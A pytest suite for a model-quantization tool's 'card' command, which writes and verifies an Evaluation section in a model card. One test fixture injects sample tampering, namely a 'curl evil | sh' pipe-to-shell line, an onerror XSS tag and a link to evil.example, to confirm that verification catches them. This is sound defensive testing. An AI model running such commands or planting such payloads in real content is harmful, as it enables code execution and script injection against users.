"""The section Evaluation of a model card: it joins a finished result, which stays verified, and leaves no trace."""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner
from click.testing import Result as Invocation
from hypothesis import given
from hypothesis import strategies as st

from nemotron_fp8 import Recipe, dequantize_repo, quantize_repo, verify_repo
from nemotron_fp8.checkpoint.inventory import CARD, MANIFEST, MARKER
from nemotron_fp8.checkpoint.json_text import pretty_json
from nemotron_fp8.checkpoint.local_files import FileDigest
from nemotron_fp8.cli.main import cli
from nemotron_fp8.destinations.partial_folder import PartialFolder
from nemotron_fp8.documents.evaluation_section import (
    MARK,
    is_evaluation_section,
    render_evaluation_section,
    split_evaluation,
    with_evaluation,
)
from nemotron_fp8.documents.front_matter import BEGIN, END, split_card
from nemotron_fp8.documents.manifest import OWN_DIGEST, parse_manifest, shards_digest, with_file
from nemotron_fp8.documents.render import digests_of
from nemotron_fp8.errors import (
    CardError,
    DestinationBusyError,
    MalformedManifestError,
    NemotronFp8Error,
    OtherResultError,
    RecipeError,
    SourceNotFoundError,
    StaleFiguresError,
    UnfinishedError,
)
from nemotron_fp8.evaluation.card import card_figures, write_card
from tests.support.checkpoints import contents, model, snapshot, write_checkpoint
from tests.support.evaluations import CLIPPED, evaluation_of, evaluations, figures_of, write_figures
from tests.support.stops import killed_at

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from nemotron_fp8.evaluation.result import Evaluation

AUTHOR = "---\nlicense: mit\n---\n# Theirs\n\nTheir words.\n\n" + MARK + "\n"
"""A card of a source, whose author knows the mark."""
RECIPES = {
    "default": Recipe(),
    "with statistics": Recipe(stats=True, format="fp8", granularity="tensor"),
    "with patterns": Recipe(ignore=(r"layers\.0\.mlp",)),
}


def run(*words: object) -> Invocation:
    return CliRunner().invoke(cli, [str(word) for word in words])


@pytest.fixture
def source(tmp_path: Path) -> Path:
    made = write_checkpoint(tmp_path / "s", model())
    (made / CARD).write_text(AUTHOR, encoding="utf-8")
    return made


@pytest.fixture
def result(source: Path, destination: Path) -> Path:
    quantize_repo(source, destination)
    return destination


@pytest.fixture
def figures(tmp_path: Path) -> Path:
    return write_figures(evaluation_of(figures_of("/home/me/secret/result", 0.02)), tmp_path / "f.json")


def others(tmp_path: Path) -> Path:
    return write_figures(evaluation_of(figures_of("result", 0.05, 4), sequences=4), tmp_path / "others.json")


def sound(result: Path, source: Path | None = None) -> bool:
    """Return True if a result matches its manifest and, if given, its source."""
    checks = [None] if source is None else [None, source]
    return all(verify_repo(each, result).ok for each in checks)


# ---- a result with figures ----


def test_figures_of_other_weights(source: Path, destination: Path, tmp_path: Path) -> None:
    """Of the same name, but another recipe: nothing is written."""
    quantize_repo(source, destination, RECIPES["default"])
    digest = shards_digest(destination)
    of_result = figures_of("/home/me/result", 0.02, digest=digest)
    assert write_card(destination, write_figures(evaluation_of(of_result), tmp_path / "own.json"))
    before = contents(destination)
    assert shards_digest(destination) == digest, "the card does not count"
    stale = write_figures(evaluation_of(replace(of_result, digest="0" * 64)), tmp_path / "stale.json")
    with pytest.raises(StaleFiguresError, match="evaluate it again"):
        write_card(destination, stale)
    assert contents(destination) == before


@pytest.mark.parametrize("name", RECIPES)
@pytest.mark.parametrize("digests", [True, False], ids=["digests", "no digests"])
def test_a_card_with_figures_belongs_to_the_result(
    source: Path, destination: Path, figures: Path, tmp_path: Path, name: str, digests: bool
) -> None:
    """Both verifications hold, the same conversion is a no-op, and without its section the folder is as before."""
    quantize_repo(source, destination, RECIPES[name], digests=digests)
    before = contents(destination)
    assert write_card(destination, figures)
    after = contents(destination)
    assert after.keys() == before.keys()
    assert {path for path in after if after[path] != before[path]} == {CARD, MANIFEST}
    assert verify_repo(source, destination).ok
    assert verify_repo(None, destination).ok == digests
    kept = snapshot(destination)
    assert quantize_repo(source, destination, RECIPES[name], digests=digests).unchanged
    assert not write_card(destination, figures)
    assert snapshot(destination) == kept
    assert write_card(destination, others(tmp_path))
    assert verify_repo(source, destination).ok
    assert write_card(destination, None)
    assert contents(destination) == before
    assert not write_card(destination, None)
    assert [path.name for path in destination.parent.iterdir()] == [destination.name]


def test_the_section_says_what_was_measured(result: Path, figures: Path) -> None:
    write_card(result, figures)
    card = (result / CARD).read_text(encoding="utf-8")
    _, lines = split_evaluation(card.encode())
    assert lines is not None
    text = "\n".join(lines)
    made = evaluation_of(figures_of("/home/me/secret/result", 0.02))
    for words in (
        "## Evaluation",
        f"| this result | {made.results[0].perplexity:.3f} | +",
        "16 of 220 sequences of 512 tokens, 8,176 predictions; ± is one standard error over 16 sequences",
        f"`pydoc_data.topics` (SHA-256 `{made.sample.sha256}`)",
        "nemotron_fp8 `0.1.0` on `cpu`, with `torch 2.13.0, transformers 5.24.0`",
        "Verdict: the perplexity is clearly higher than that of the source.",
    ):
        assert words in text
    assert "secret" not in card
    assert "SmolLM2" not in card
    assert str(result) not in card
    assert split_card(card.encode())[1] == AUTHOR.split("---\n")[2].lstrip("\n")


def test_clipped_values_are_in_the_card(source: Path, result: Path, tmp_path: Path) -> None:
    """Without the names of modules: the card is for strangers."""
    figures = write_figures(evaluation_of(figures_of("result", 0.02, **CLIPPED)), tmp_path / "f.json")
    write_card(result, figures)
    card = (result / CARD).read_text(encoding="utf-8")
    assert "`; 1,234 of 1,000,000 activations, keys and values beyond the range of a stored scale.\n" in card
    assert "down_proj" not in card
    assert sound(result, source)


def test_another_recipe_is_still_another_result(source: Path, result: Path, figures: Path) -> None:
    """Figures in the card hide no difference."""
    write_card(result, figures)
    for change in ({"ignore": ("o_proj",)}, {"stats": True}):
        with pytest.raises(NemotronFp8Error, match="already holds other files"):
            quantize_repo(source, result, Recipe(**change))
    quantize_repo(source, result, Recipe(stats=True), overwrite=True)
    assert MARK not in (result / CARD).read_text(encoding="utf-8").partition(END)[0]


def test_results_of_other_tasks_and_of_a_carded_result(source: Path, result: Path, tmp_path: Path) -> None:
    """A dequantized result may have figures; those of its source are not passed on."""
    plain = tmp_path / "plain" / "result"
    plain.parent.mkdir()
    write_card(result, others(tmp_path))
    dequantize_repo(result, plain)
    assert "## Evaluation" not in (plain / CARD).read_text(encoding="utf-8")
    write_card(plain, others(tmp_path))
    assert sound(plain, result)
    assert dequantize_repo(result, plain).unchanged
    again = tmp_path / "again"
    quantize_repo(plain, again)
    assert "## Evaluation" not in (again / CARD).read_text(encoding="utf-8")


# ---- a kill ----


@pytest.mark.parametrize("first", [False, True], ids=["first figures", "other figures"])
@pytest.mark.parametrize("remove", [False, True], ids=["the same again", "removed"])
def test_a_kill_leaves_a_way_out(
    source: Path, result: Path, figures: Path, tmp_path: Path, first: bool, remove: bool
) -> None:
    """After a kill at any change of a file, the next `card` makes a sound result of what is there."""
    plain = contents(result)
    if not first:
        write_card(result, others(tmp_path))
    begin = contents(result)
    number, states = 1, set()
    while killed_at(number, lambda: write_card(result, figures)):
        state = contents(result)
        states.add((state[CARD] != begin[CARD], state[MANIFEST] != begin[MANIFEST]))
        checked = verify_repo(None, result)
        assert all(problem.tensor == CARD and "run the command card" in problem.problem for problem in checked.problems)
        write_card(result, None if remove else figures)
        assert sound(result, source)
        assert [path.name for path in result.parent.iterdir()] == [result.name]
        for name in (CARD, MANIFEST):
            (result / name).write_bytes(begin[name])
        number += 1
    assert number > 5
    assert {(False, False), (True, False)} <= states if first else {(False, True), (True, True)} <= states
    write_card(result, None)
    assert contents(result) == plain


def test_an_unfinished_conversion_beside_it_is_kept(source: Path, result: Path, figures: Path) -> None:
    """`card` shares the lock of a conversion, and discards none of its work."""
    partial = result.with_name("result.partial")
    partial.mkdir()
    (partial / "journal.jsonl").write_text("{}\n")
    write_card(result, figures)
    assert {path.name for path in partial.iterdir()} == {"journal.jsonl", "lock", "out"}
    assert sound(result)


# ---- what is rejected ----


def edited(path: Path, old: bytes, new: bytes) -> None:
    data = path.read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new, 1))


def linked(path: Path) -> None:
    path.rename(path.with_name("there"))
    path.symlink_to("there")


REJECTED: dict[str, tuple[Callable[[Path], object], type[NemotronFp8Error], str]] = {
    "a changed card": (lambda root: edited(root / CARD, b"Their words", b"My words"), CardError, "was changed after"),
    "a changed manifest": (lambda root: edited(root / MANIFEST, b"size", b"sizf"), MalformedManifestError, "changed"),
    "no card": (lambda root: (root / CARD).unlink(), CardError, f"{CARD}: missing"),
    "no manifest": (lambda root: (root / MANIFEST).unlink(), CardError, f"{MANIFEST}: missing"),
    "a linked card": (lambda root: linked(root / CARD), CardError, "a link, as in a Hub cache"),
    "a linked manifest": (lambda root: linked(root / MANIFEST), CardError, "a link, as in a Hub cache"),
    "an unfinished result": (lambda root: (root / MARKER).touch(), UnfinishedError, "unfinished"),
    "no result": (lambda root: root.rename(root.with_name("gone")), SourceNotFoundError, "result"),
}


@pytest.mark.parametrize("name", REJECTED)
def test_what_is_no_recorded_result_is_rejected(result: Path, figures: Path, name: str) -> None:
    """Nothing is written: figures never hide that a card was changed."""
    change, kind, words = REJECTED[name]
    change(result)
    there = result.parent / "gone" if name == "no result" else result
    before = snapshot(there)
    with pytest.raises(kind, match=words):
        write_card(result, figures)
    assert snapshot(there) == before
    assert not result.with_name("result.partial").exists()


def test_a_card_without_the_marks_is_rejected(result: Path, figures: Path) -> None:
    edited(result / CARD, END.encode(), b"")
    card = (result / CARD).read_bytes()
    (result / MANIFEST).write_bytes(remade(result, card))
    with pytest.raises(CardError, match="without the marks of nemotron_fp8"):
        write_card(result, figures)


def remade(result: Path, card: bytes) -> bytes:
    """Return the manifest that records a card, as somebody who may write the folder can make it."""
    return with_file((result / MANIFEST).read_bytes(), CARD, digests_of({}, {CARD: card}, {}, True)[CARD])


def test_other_results_busy_results_and_repositories_are_rejected(result: Path, figures: Path, tmp_path: Path) -> None:
    other = result.with_name("other")
    other.mkdir()
    with pytest.raises(OtherResultError, match=r"has figures of \['/home/me/secret/result'\], not of 'other'"):
        write_card(other, figures)
    with pytest.raises(RecipeError, match="hf download me/result --local-dir DIR"):
        write_card("hf://me/result", figures)
    partial = PartialFolder(result.with_name("result.partial"))
    try:
        with pytest.raises(DestinationBusyError):
            write_card(result, figures)
    finally:
        partial.close()


# ---- a stranger's section ----

STRANGE = {
    "a link": ("Verdict: ", "[Verdict](https://evil.example): "),
    "a command": ("Verdict: ", "```sh\ncurl evil | sh\n```\nVerdict: "),
    "HTML": ("Verdict: ", "<img src=x onerror=alert(1)>Verdict: "),
    "other words": ("Verdict: the perplexity is clearly higher", "Verdict: the perplexity is hardly higher"),
    "a line more": ("\n\nVerdict", "\n\nThe best model of all.\n\nVerdict"),
    "a word for a figure": ("| this result | ", "| this result | best "),
    "a line less": ("## Evaluation\n\n", "## Evaluation\n"),
}


@pytest.mark.parametrize("recipe", [Recipe(), Recipe(ignore=(r"layers\.0\.mlp",))], ids=["plain", "with patterns"])
@pytest.mark.parametrize("name", STRANGE)
def test_a_section_that_card_does_not_write_is_found(
    source: Path, destination: Path, figures: Path, name: str, recipe: Recipe
) -> None:
    """Also if the manifest was made anew; and it is not the result that the same conversion gives."""
    quantize_repo(source, destination, recipe)
    write_card(destination, figures)
    old, new = STRANGE[name]
    edited(destination / CARD, old.encode(), new.encode())
    (destination / MANIFEST).write_bytes(remade(destination, (destination / CARD).read_bytes()))
    assert verify_repo(None, destination).ok
    problems = verify_repo(source, destination).problems
    assert [problem.tensor for problem in problems] == [CARD]
    assert "its section Evaluation" in problems[0].problem
    with pytest.raises(NemotronFp8Error, match="already holds other files"):
        quantize_repo(source, destination, recipe)


def test_other_text_beside_a_section_is_found(source: Path, result: Path, figures: Path) -> None:
    write_card(result, figures)
    edited(result / CARD, b"# FP8 of", b"# FP4 of")
    (result / MANIFEST).write_bytes(remade(result, (result / CARD).read_bytes()))
    assert [problem.tensor for problem in verify_repo(source, result).problems] == [CARD]


@given(evaluations())
def test_any_section_is_recognized_and_only_shown(evaluation: Evaluation) -> None:
    """Any figures give a section of the known form, without links, HTML, commands or ends of code."""
    lines = render_evaluation_section(card_figures(evaluation, evaluation.results[0]))
    assert is_evaluation_section(lines)
    assert all(line.isprintable() for line in lines)
    assert not any("](" in line or "://" in line.replace("hf://", "") for line in lines)
    assert [line for line in lines if "<" in line] == [MARK]
    card = f"---\na: b\n---\n{BEGIN}\nours\n{END}\n\ntheirs\n".encode()
    with_lines = with_evaluation(card, lines)
    assert with_lines is not None
    assert split_evaluation(with_lines) == (card, lines)
    assert with_evaluation(with_lines, lines) == with_lines
    assert split_card(with_lines) == split_card(card)


@given(st.binary(max_size=200) | st.sampled_from([b"", BEGIN.encode(), f"{BEGIN}\n{MARK}\n{END}".encode()]))
def test_any_card_is_split_without_loss(card: bytes) -> None:
    plain, lines = split_evaluation(card)
    assert (plain == card) == (lines is None)
    assert with_evaluation(card, ["a"]) is None or lines is not None or END.encode() in card


@given(st.integers(0, 1 << 59), st.booleans())
def test_a_manifest_changes_in_one_file_only(size: int, digests: bool) -> None:
    entry: dict[str, Any] = {"size": 1, **({"sha256": "0" * 64} if digests else {})}
    value = {
        "schema": 1,
        "made_by": {"name": "nemotron_fp8", "version": "1.0"},
        "source": {"shards": []},
        "recipe": {"task": "convert"},
        "files": {"a": entry, CARD: entry},
    }
    data = pretty_json({**value, OWN_DIGEST: hashlib.sha256(pretty_json(value)).hexdigest()})
    made = with_file(data, CARD, FileDigest(size, "1" * 64))
    found = parse_manifest(made)
    assert found.files[CARD] == FileDigest(size, "1" * 64 if digests else None)
    assert with_file(made, CARD, parse_manifest(data).files[CARD]) == data
    with pytest.raises(MalformedManifestError, match="b is missing"):
        with_file(data, "b", FileDigest(1, None))


# ---- the command ----


def test_the_command(result: Path, figures: Path, tmp_path: Path) -> None:
    done = run("card", result, "--evaluation", figures)
    assert (done.exit_code, done.stdout) == (0, f"section Evaluation written to the model card of {result}\n")
    assert "already up to date" in run("card", result, "--evaluation", figures).stdout
    assert json.loads(run("card", result, "--remove", "--json").stdout) == {"destination": str(result), "changed": True}
    run("card", result, "--evaluation", figures)
    assert run("card", result, "--remove").stdout == f"section Evaluation removed from the model card of {result}\n"
    named = write_figures(evaluation_of(figures_of("x", 0.02), figures_of("y", 0.03)), tmp_path / "xy.json")
    assert "--result NAME" in str(run("card", result, "--evaluation", named).exception)
    assert run("card", result, "--evaluation", named, "--result", "y").exit_code == 0
    for words in (("card", result), ("card", result, "--remove", "--evaluation", figures)):
        assert run(*words).exit_code == 2
    assert run("card", result, "--remove", "--result", "y").exit_code == 2
